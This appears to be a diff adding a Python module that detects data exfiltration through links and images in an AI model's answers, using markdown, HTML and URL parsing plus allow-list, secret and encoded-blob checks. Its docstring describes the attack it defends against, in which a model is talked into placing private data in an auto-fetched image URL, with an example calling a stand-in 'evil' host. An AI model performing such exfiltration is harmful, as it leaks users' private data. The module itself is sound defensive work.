@@ -1,0 +1,218 @@
+"""Links and images in an answer, and which of them could carry data out.
+
+A model that read something private can be talked into writing it into a URL:
+an image the chat front end fetches on its own (``![x](https://evil/?d=...)``),
+or a link the user is tempted to click. ``find_links`` lists every URL in
+markdown (inline, reference-style, autolinks), HTML (``<img>``, ``<a>``,
+``<iframe>``, CSS ``url()``...) and bare text. ``find_exfiltration`` flags:
+
+- any URL with a dangerous scheme (``data:``, ``javascript:``, ``file:``...),
+- any auto-loading URL (image, iframe, script, CSS) off the allow-list,
+- any URL off the allow-list that carries data: a secret or personal data,
+  credentials, a long or many-word query value, an encoded blob in a query,
+  path segment or host label.
+
+Text is also scanned after HTML-entity and percent decoding, with invisible
+characters removed and Unicode folded (NFKC), so an encoded payload is caught.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+import unicodedata
+from dataclasses import dataclass
+from urllib.parse import parse_qsl, unquote, urlsplit
+
+from unwalled.shield.pii import find_pii
+from unwalled.shield.secrets import entropy, find_secrets
+
+__all__ = ["Link", "ExfiltrationFinding", "find_links", "find_exfiltration",
+           "normalize_text"]
+
+DANGEROUS_SCHEMES = {"data", "javascript", "vbscript", "file", "blob"}
+_INVISIBLE = re.compile("[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"
+                        "\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f"
+                        "\ufeff\uffa0\U000e0000-\U000e0fff]")
+
+_MD_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'(][^)]*)?\)")
+_MD_LINK = re.compile(r"(?<!!)\[[^\]\n]*\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'(][^)]*)?\)")
+_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t].*)?$",
+                         re.MULTILINE)
+_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\])?")
+_HTML_LOADING = re.compile(
+    r"<(?:img|image|iframe|frame|script|source|video|audio|embed|object|link|input"
+    r"|track|body|table|td|svg|use)\b[^>]*?\b(?:src|href|xlink:href|data|poster"
+    r"|srcset|background|action)\s*=\s*([\"']?)([^\"'\s>]+)\1", re.IGNORECASE)
+_HTML_LINK = re.compile(r"<(?:a|area|form)\b[^>]*?\b(?:href|action)\s*=\s*([\"']?)"
+                        r"([^\"'\s>]+)\1", re.IGNORECASE)
+_HTML_REFRESH = re.compile(r"<meta\b[^>]*?url\s*=\s*([^\"'\s>;]+)", re.IGNORECASE)
+_CSS_URL = re.compile(r"url\(\s*[\"']?([^\"')\s]+)", re.IGNORECASE)
+_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)
+_BARE_URL = re.compile(r"(?<![\w(\"'=<])(?:(?:https?|ftp)://|//(?=[\w-]+\.[\w.-]+/))"
+                       r"[^\s<>\"'`)\]]+", re.IGNORECASE)
+_DATA_URL = re.compile(r"\b(?:data|javascript|vbscript):[^\s)\"'>]{4,}", re.IGNORECASE)
+_BLOB = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")
+_HEX = re.compile(r"[0-9a-fA-F]{32,}")
+
+
+@dataclass(frozen=True, slots=True)
+class Link:
+    url: str
+    form: str
+    """markdown-image, markdown-link, reference-image, html-loading, html-link,
+    css, autolink, bare, data-url."""
+    loads: bool
+    """True when a viewer fetches it without a click (images, iframes, CSS)."""
+
+
+@dataclass(frozen=True, slots=True)
+class ExfiltrationFinding:
+    url: str
+    form: str
+    reason: str
+
+
+def normalize_text(text: str) -> str:
+    """NFKC-folded text without invisible characters (zero-width, bidi, tags)."""
+    return _INVISIBLE.sub("", unicodedata.normalize("NFKC", text))
+
+
+def _decoded_views(text: str) -> list[str]:
+    """The text as written, then HTML-unescaped, then percent-decoded."""
+    views = [normalize_text(text)]
+    unescaped = html.unescape(views[0])
+    if unescaped != views[0]:
+        views.append(unescaped)
+    decoded = unquote(unescaped)
+    if decoded != unescaped:
+        views.append(normalize_text(decoded))
+    return views
+
+
+def find_links(text: str) -> list[Link]:
+    """Every URL in markdown, HTML and bare text, each once per form."""
+    links: dict[tuple[str, str], Link] = {}
+
+    def add(url: str, form: str, loads: bool) -> None:
+        url = url.strip().strip("<>")
+        if url:
+            links.setdefault((url, form), Link(url, form, loads))
+
+    for view in _decoded_views(text):
+        _collect(view, add)
+    return list(links.values())
+
+
+def _collect(text: str, add) -> None:  # noqa: ANN001 - a local callback
+    for match in _MD_IMAGE.finditer(text):
+        add(match.group(1), "markdown-image", True)
+    for match in _MD_LINK.finditer(text):
+        add(match.group(1), "markdown-link", False)
+    definitions = {label.strip().lower(): url
+                   for label, url in _MD_REF_DEF.findall(text)}
+    image_labels = {(ref or alt).strip().lower()
+                    for alt, ref in _MD_REF_IMAGE.findall(text)}
+    for label, url in definitions.items():
+        loads = label in image_labels
+        add(url, "reference-image" if loads else "reference-link", loads)
+    for pattern, form, loads in ((_HTML_LOADING, "html-loading", True),
+                                 (_HTML_LINK, "html-link", False)):
+        for match in pattern.finditer(text):
+            add(match.group(2), form, loads)
+    for match in _HTML_REFRESH.finditer(text):
+        add(match.group(1), "html-loading", True)
+    for match in _CSS_URL.finditer(text):
+        add(match.group(1), "css", True)
+    for match in _AUTOLINK.finditer(text):
+        add(match.group(1), "autolink", False)
+    for match in _BARE_URL.finditer(text):
+        add(match.group().rstrip(".,;:!?"), "bare", False)
+    for match in _DATA_URL.finditer(text):
+        add(match.group(), "data-url", False)
+
+
+def find_exfiltration(text: str, allow_domains: tuple[str, ...] | list[str] = (),
+                      ) -> list[ExfiltrationFinding]:
+    """The links in ``text`` that could carry data out, with the reason for each."""
+    findings = []
+    for link in find_links(text):
+        reason = _verdict(link, tuple(d.lower().lstrip(".") for d in allow_domains))
+        if reason:
+            findings.append(ExfiltrationFinding(link.url, link.form, reason))
+    return findings
+
+
+def _verdict(link: Link, allowed: tuple[str, ...]) -> str | None:
+    url = link.url
+    scheme = url.split(":", 1)[0].lower() if ":" in url.split("/", 1)[0] else ""
+    if scheme in DANGEROUS_SCHEMES:
+        return f"{scheme}: URL"
+    if url.startswith("//"):
+        url = "https:" + url
+    if not re.match(r"(?i)(?:https?|ftp)://", url):
+        return None  # a relative link stays on the page that shows the answer
+    try:
+        parts = urlsplit(url)
+        host = (parts.hostname or "").lower()
+    except ValueError:
+        return "unparseable URL"
+    if _allowed(host, allowed):
+        return None
+    if link.loads:
+        return "loads without a click from a host not on the allow-list"
+    return _carries_data(parts, host)
+
+
+def _allowed(host: str, allowed: tuple[str, ...]) -> bool:
+    return any(host == domain or host.endswith("." + domain) for domain in allowed)
+
+
+def _carries_data(parts, host: str) -> str | None:  # noqa: ANN001 - SplitResult
+    if parts.username or parts.password:
+        return "credentials in the URL"
+    for label in host.split("."):
+        if len(label) >= 20 and (_HEX.fullmatch(label) or entropy(label) > 3.8):
+            return "encoded data in the host name"
+    whole = unquote(f"{parts.path}?{parts.query}#{parts.fragment}")
+    if find_secrets(whole) or [f for f in find_pii(whole) if f.kind != "PHONE"]:
+        return "a secret or personal data in the URL"
+    values = [value for _, value in parse_qsl(parts.query, keep_blank_values=True)]
+    values += [parts.fragment] if "=" not in parts.fragment else [
+        value for _, value in parse_qsl(parts.fragment)]
+    for value in values:
+        reason = _data_value(value)
+        if reason:
+            return f"{reason} in the query"
+    for segment in parts.path.split("/"):
+        if _is_blob(unquote(segment), path=True):
+            return "an encoded blob in the path"
+    return None
+
+
+def _data_value(value: str) -> str | None:
+    if len(value) > 48:
+        return "a long value"
+    if len(value.split()) >= 5:
+        return "a sentence"
+    if _is_blob(value, path=False):
+        return "an encoded blob"
+    return None
+
+
+def _is_blob(value: str, *, path: bool) -> bool:
+    """Base64 or hex of some length; a path allows longer ids (commit hashes)."""
+    if len(value.split()) >= 4:
+        return True
+    hex_run = _HEX.search(value)
+    if hex_run and len(hex_run.group()) >= (72 if path else 32):
+        return True
+    for run in _BLOB.findall(value):
+        if _HEX.fullmatch(run):
+            continue
+        mixed = any(c.isupper() for c in run) and any(c.islower() for c in run)
+        words = run.count("-") + run.count("_")
+        if mixed and len(run) >= (40 if path else 24) and words < len(run) / 8 \
+                and entropy(run) > 4.0:
+            return True
+    return False
